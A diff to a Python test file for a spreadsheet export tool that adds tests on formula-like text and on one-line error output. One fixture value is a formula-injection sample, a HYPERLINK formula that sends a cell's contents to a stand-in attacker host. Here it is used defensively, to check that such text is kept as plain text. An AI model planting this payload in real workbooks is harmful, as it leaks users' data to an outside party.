@@ -1,19 +1,23 @@
-"""scripts/xlsx/export.py: what the workbook holds for its readers (Read me first, named fonts, one
+"""scripts/xlsx/write/export.py: what the workbook holds for its readers (Read me first, named fonts, one
 boolean convention, formats by unit, dropdowns over whole columns, ISBLANK highlighting, print
 setup, worded chart), what it refuses, and that two exports are byte-identical."""
 
 from __future__ import annotations
 
 import re
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
 import openpyxl
 import pytest
 
-from scripts.model.package import load_package
-from scripts.xlsx.export import STATE_SHEET, ExportError, export_workbook, fingerprint
-from scripts.xlsx.guide import README_SHEET
+from scripts.model.package import csv_text, load_package, read_rows
+from scripts.xlsx.read.importer import import_workbook
+from scripts.xlsx.state import STATE_SHEET, fingerprint
+from scripts.xlsx.write.export import ExportError, export_workbook
+from scripts.xlsx.write.guide import README_SHEET
 from tests.unit.xlsx_support import ROOT, column_of, copy_package, export, row_of
 
 
@@ -149,3 +153,71 @@ def test_control_character_is_refused_and_nothing_written(tmp_path):
     with pytest.raises(ExportError, match=r"^states.csv row 2, field name: the value .*U\+001B"):
         export_workbook(load_package(pkg), dest)
     assert not dest.exists() and list(tmp_path.glob(".*tmp*")) == []
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+7 701 000 00 00", "-5 degrees",
+                "@mention"]
+
+
+def _with_formula_like_texts(tmp_path: Path) -> Path:
+    """A package whose first topics' descriptions start as a spreadsheet formula would."""
+    pkg = copy_package(tmp_path / "pkg")
+    table = load_package(pkg).table("topics")
+    rows = read_rows(table)
+    for row, text in zip(rows, FORMULA_LIKE, strict=False):
+        row["description"] = text
+    table.path.write_text(csv_text(table, rows), encoding="utf-8")
+    return pkg
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_reads_back_unchanged(tmp_path):
+    """Text is always an inline string: a cell starting with =, +, - or @ is never a formula in the
+    workbook, and the import reads it back as the same text (no table changes)."""
+    pkg = _with_formula_like_texts(tmp_path)
+    dest = export(pkg, tmp_path / "w.xlsx")
+    sheet = next(xml for xml in _parts(dest).values() if "<t>@mention</t>" in xml)
+    assert "<f>" not in sheet and "<f " not in sheet
+    ws = openpyxl.load_workbook(dest)["topics"]
+    column = column_of(ws, "description")
+    cells = [ws.cell(r, column) for r in range(2, 2 + len(FORMULA_LIKE))]
+    assert [(c.value, c.data_type) for c in cells] == [(text, "s") for text in FORMULA_LIKE]
+    before = (pkg / "tables" / "topics.csv").read_bytes()
+    result = import_workbook(pkg, dest, None)
+    assert (result.problems, result.changed) == ([], [])
+    assert (pkg / "tables" / "topics.csv").read_bytes() == before
+
+
+def _run_export(pkg: Path, dest: Path, inject: str = "") -> subprocess.CompletedProcess[str]:
+    """``python -m scripts export`` in a fresh interpreter (tracebacks of objects collected after
+    the error line reach the real stderr only), optionally with a fault injected first; prints
+    the temporary files openpyxl still holds at the end."""
+    code = (f"import sys; sys.path.insert(0, {str(ROOT)!r})\n{inject}\n"
+            "from openpyxl.worksheet._writer import ALL_TEMP_FILES\nfrom scripts.cli import main\n"
+            f"code = main(['export', {str(pkg)!r}, '--output', {str(dest)!r}])\n"
+            "import gc; gc.collect(); print(len(ALL_TEMP_FILES)); sys.exit(code)")
+    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300, cwd=ROOT)
+
+
+def test_an_export_failing_after_its_sheets_exist_prints_one_line(tmp_path):
+    """A control character in a field's description fails the export once sheets exist: before,
+    every open sheet printed two tracebacks after the one error line."""
+    pkg = copy_package(tmp_path / "pkg")
+    schema = pkg / "schemas" / "topics.json"
+    schema.write_text(schema.read_text(encoding="utf-8").replace('"description": "', '"description": "\\u0001', 1),
+                      encoding="utf-8")
+    done = _run_export(pkg, tmp_path / "w.xlsx")
+    assert (done.returncode, done.stderr.splitlines()) == (
+        1, ["error: datapackage.json or a schema: a title or description holds a control character"])
+    assert done.stdout.split() == ["0"] and not (tmp_path / "w.xlsx").exists()
+
+
+def test_a_failure_after_every_sheet_is_created_prints_one_line(tmp_path):
+    """A write that fails after the last sheet (here the disk, injected): one line, exit 2, and
+    no temporary sheet file left behind."""
+    inject = ("import errno, scripts.xlsx.write.export as export\n"
+              "def full(*args): raise OSError(errno.ENOSPC, 'No space left on device')\n"
+              "export._write_state = full")
+    done = _run_export(copy_package(tmp_path / "pkg"), tmp_path / "w.xlsx", inject)
+    assert (done.returncode, done.stderr.splitlines()) == (
+        2, ["error: file system error: the disk is full (free some space and run the command again)"])
+    assert done.stdout.split() == ["0"] and not (tmp_path / "w.xlsx").exists()
